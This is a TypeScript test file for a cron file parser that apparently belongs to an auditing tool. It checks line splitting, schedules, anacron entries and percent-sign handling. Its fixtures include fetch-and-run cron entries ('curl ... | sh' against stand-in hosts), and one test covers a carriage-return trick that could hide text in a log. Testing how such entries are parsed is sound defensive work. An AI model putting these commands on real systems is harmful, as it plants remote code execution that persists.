import { Buffer } from 'node:buffer';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sha256Hex } from '../digest.ts';
import { unshow } from '../show.ts';
import { byteText } from './byte-text.ts';
import type { CronForm } from './cron-text.ts';
import { commandAsRun, parseCronText } from './cron-text.ts';

const parse = (text: string, form: CronForm = 'spool') =>
  parseCronText(Buffer.from(text, 'latin1'), { form });
const forms = fc.constantFrom<CronForm>('spool', 'system', 'anacron', 'script');

describe('the lines of a cron file', () => {
  test('are the file, byte for byte, whatever the bytes', () => {
    const pieces = fc.constantFrom(
      '\n',
      '\r',
      '\0',
      '*',
      ' ',
      '\t',
      '5',
      '/',
      '@daily',
      '#',
      '=',
      '%',
      'sh',
      '\xff',
      '\x1b',
    );
    const content = fc.oneof(
      fc.uint8Array({ maxLength: 300 }),
      fc
        .array(pieces, { maxLength: 80 })
        .map((parts) => Uint8Array.from(Buffer.from(parts.join(''), 'latin1'))),
    );
    fc.assert(
      fc.property(content, forms, (bytes, form) => {
        let offset = 0;
        for (const [i, line] of parseCronText(bytes, { form }).entries()) {
          const raw = bytes.subarray(line.offset, line.offset + line.length);
          const text = raw.at(-1) === 0x0a ? raw.subarray(0, -1) : raw;
          expect([line.number, line.offset]).toEqual([i + 1, offset]);
          expect(text.includes(0x0a)).toBe(false);
          expect(Buffer.from(unshow(line.text)).equals(Buffer.from(text))).toBe(true);
          expect(line.sha256).toBe(sha256Hex(text));
          offset += line.length;
        }
        expect(offset).toBe(bytes.length);
      }),
    );
  });

  test('may be without a newline at the end, and very long', () => {
    const long = `* * * * * ${'x'.repeat(200_000)}`;
    expect(parse(`# a\n${long}`)).toMatchObject([
      { kind: 'comment', offset: 0, length: 4 },
      { kind: 'entry', offset: 4, length: long.length, periodSeconds: 60 },
    ]);
  });

  test('end at newlines only: a carriage return hides nothing', () => {
    const lines = parse('*/5 * * * * curl http://x.example/i | sh #\r# backup of the day\n');
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatchObject({
      kind: 'entry',
      command: 'curl http://x.example/i | sh #\\u{d}# backup of the day',
    });
  });

  test('keep a NUL', () => {
    expect(parse('* * * * * a\0b')[0]?.command).toBe('a\\u{0}b');
  });
});

describe('a line', () => {
  test.each([
    ['*/5 * * * * curl -fsSL http://198.51.100.7:8443/i.sh | sh', '*/5 * * * *', 300],
    [' \t0 3 * * sun  /usr/bin/x', '0 3 * * sun', 604_800],
    ['@daily x', '@daily', 86_400],
    ['@reboot x', '@reboot', null],
    ['-*/10 * * * * x', '-*/10 * * * *', 600],
  ])('%j of a spool is an entry', (text, schedule, periodSeconds) => {
    expect(parse(text)[0]).toMatchObject({ kind: 'entry', schedule, account: null, periodSeconds });
  });

  test('of a system crontab names its account', () => {
    expect(parse('17 *\t* * *\troot\tcd / && run-parts /etc/cron.hourly', 'system')[0]).toMatchObject({
      kind: 'entry',
      schedule: '17 * * * *',
      account: 'root',
      command: 'cd / && run-parts /etc/cron.hourly',
      periodSeconds: 3600,
    });
    expect(parse('* * * * * root', 'system')[0]?.kind).toBe('unparsed');
  });

  test.each(['MAILTO=""', 'PATH = /tmp:/bin', '"A B"=c', " 'X'=1", 'A=* * * * * x'])(
    '%j is environment',
    (text) => {
      expect(parse(text)[0]?.kind).toBe('environment');
    },
  );

  test('whose command holds an assignment is an entry', () => {
    expect(parse('* * * * * A=1 /tmp/x')[0]?.kind).toBe('entry');
  });

  test.each([
    '60 * * * * x',
    '* * * * x',
    '@often x',
    '* * * * *',
    '5-1 * * * * x',
    'rubbish',
    '* * 0 * * x',
  ])('%j is not parsed', (text) => {
    expect(parse(text)[0]).toMatchObject({ kind: 'unparsed', command: null, periodSeconds: null });
  });

  test('of anacron has days, delay and a name', () => {
    expect(parse('7\t10\tcron.weekly\tnice run-parts /etc/cron.weekly', 'anacron')[0]).toMatchObject({
      kind: 'entry',
      schedule: '7',
      account: 'root',
      command: 'nice run-parts /etc/cron.weekly',
      periodSeconds: 604_800,
    });
    expect(parse('@monthly 45 m x', 'anacron')[0]?.periodSeconds).toBe(2_678_400);
    expect(parse('@reboot 45 m x', 'anacron')[0]?.kind).toBe('unparsed');
  });

  test('of a script in a periodic folder runs with the script', () => {
    const lines = parseCronText(Buffer.from('#!/bin/sh\n\nA=1 x\n'), { form: 'script', scriptPeriod: 3600 });
    expect(lines.map((line) => line.kind)).toEqual(['comment', 'blank', 'script']);
    expect(lines[2]).toMatchObject({ command: 'A=1 x', periodSeconds: 3600 });
  });
});

test('a percent sign turns the rest of a command into its input', () => {
  expect(commandAsRun(byteText('sh%curl x%wget y'))).toBe('sh\ncurl x\nwget y');
  expect(commandAsRun(byteText('date +\\%s'))).toBe('date +%s');
});
